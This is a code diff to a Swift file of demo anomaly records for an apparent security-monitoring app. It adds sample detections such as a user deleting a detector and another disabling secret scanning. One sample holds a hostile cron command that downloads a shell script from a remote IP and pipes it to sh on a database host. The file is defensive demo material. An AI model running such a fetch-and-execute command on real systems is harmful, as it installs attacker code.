@@ -96,7 +96,7 @@ struct DemoAnomaly: Sendable {
     }
 
     /// In order of time.
-    static let all: [DemoAnomaly] = (accounts + hosts + web).sorted { $0.hours > $1.hours }
+    static let all: [DemoAnomaly] = (accounts + hosts + code).sorted { $0.hours > $1.hours }
 
     private static let accounts: [DemoAnomaly] = [
         DemoAnomaly(
@@ -142,13 +142,13 @@ struct DemoAnomaly: Sendable {
             146,
             "aws_rare_action_for_user",
             "rare by event.action partition user.name",
-            [member(.partition, "user.name", "admin-carol"), member(.by, "event.action", "DeleteDetector")],
+            [member(.partition, "user.name", "mallory"), member(.by, "event.action", "DeleteDetector")],
             41.5,
             bucketSeconds: 3_600,
             .rare,
             1,
-            from: [("user.name", "admin-carol", 1)],
-            "event.action DeleteDetector for user.name admin-carol, never seen in 8 days"
+            from: [("user.name", "mallory", 1), ("source.ip", "203.0.113.80", 1)],
+            "event.action DeleteDetector for user.name mallory, never seen in 8 days"
         ),
     ]
 
@@ -161,7 +161,7 @@ struct DemoAnomaly: Sendable {
             48.1,
             .rare,
             1,
-            from: [("host.name", "web-1", 1), ("user.name", "mallory", 1)],
+            from: [("host.name", "app-1", 1), ("user.name", "mallory", 1)],
             "user.name mallory, never seen in 14 days"
         ),
         DemoAnomaly(
@@ -172,7 +172,7 @@ struct DemoAnomaly: Sendable {
             36,
             .rare,
             2,
-            from: [("user.name", "mallory", 1), ("host.name", "web-1", 0.9)],
+            from: [("user.name", "mallory", 1), ("host.name", "app-1", 0.9)],
             "source.ip 198.51.100.77 for user.name mallory, never seen in 14 days"
         ),
         DemoAnomaly(
@@ -192,33 +192,45 @@ struct DemoAnomaly: Sendable {
         ),
     ]
 
-    private static let web: [DemoAnomaly] = [
+    private static let code: [DemoAnomaly] = [
         DemoAnomaly(
-            6,
-            "web_high_count_errors_for_source",
-            "high_count over source.ip",
-            [member(.over, "source.ip", "198.51.100.133")],
-            91.2,
-            .spike,
-            64,
-            usually: 1,
-            0...4,
-            from: [("source.ip", "198.51.100.133", 1), ("host.name", "web-1", 0.6)],
-            "64 events of source.ip 198.51.100.133, usually 1 (0 to 4)"
+            77,
+            "github_rare_action_for_user",
+            "rare by event.action partition user.name",
+            [member(.partition, "user.name", "mallory"), member(.by, "event.action", "repo.access")],
+            82.1,
+            bucketSeconds: 3_600,
+            .rare,
+            1,
+            from: [("user.name", "mallory", 1), ("github.repo", "example-org/billing", 1)],
+            "event.action repo.access for user.name mallory, never seen in 11 days"
         ),
         DemoAnomaly(
-            122,
-            "web_high_count_errors_for_source",
-            "high_count over source.ip",
-            [member(.over, "source.ip", "198.51.100.132")],
+            170,
+            "github_rare_action_for_user",
+            "rare by event.action partition user.name",
+            [member(.partition, "user.name", "ivan"), member(.by, "event.action", "repository_secret_scanning.disable")],
             28.4,
             current: 22.9,
-            .spike,
-            9,
-            usually: 1,
-            0...4,
-            from: [("source.ip", "198.51.100.132", 1)],
-            "9 events of source.ip 198.51.100.132, usually 1 (0 to 4)"
+            bucketSeconds: 3_600,
+            .rare,
+            1,
+            from: [("user.name", "ivan", 1), ("github.repo", "example-org/shop", 1)],
+            "event.action repository_secret_scanning.disable for user.name ivan, never seen in 7 days"
+        ),
+        DemoAnomaly(
+            4,
+            "linux_rare_cron_command",
+            "rare by process.command_line partition host.name",
+            [
+                member(.partition, "host.name", "db-1"),
+                member(.by, "process.command_line", "curl -fsSL http://198.51.100.200/i.sh | sh"),
+            ],
+            67.7,
+            .rare,
+            1,
+            from: [("host.name", "db-1", 1), ("user.name", "redis", 1)],
+            "process.command_line curl -fsSL http://198.51.100.200/i.sh | sh for host.name db-1, never seen in 14 days"
         ),
     ]
 
